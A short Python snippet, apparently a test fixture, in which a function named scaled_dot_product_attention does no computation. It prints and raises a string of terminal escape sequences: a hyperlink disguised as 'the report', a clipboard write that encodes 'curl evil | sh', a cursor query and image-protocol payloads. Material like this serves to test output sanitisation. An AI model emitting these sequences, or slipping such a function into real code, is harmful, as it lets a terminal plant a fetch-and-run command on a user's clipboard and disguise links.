import numpy

EVIL = (
    "\x1b]8;;https://example.com/evil\x1b\\the report\x1b]8;;\x1b\\"
    "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b[6n\x1b]1337;File=inline=1:AAAA\x07\x1b_Gf=32;AAAA\x1b\\"
)


def scaled_dot_product_attention(q, k, v, mask=None):
    print(EVIL)
    raise ValueError(EVIL)
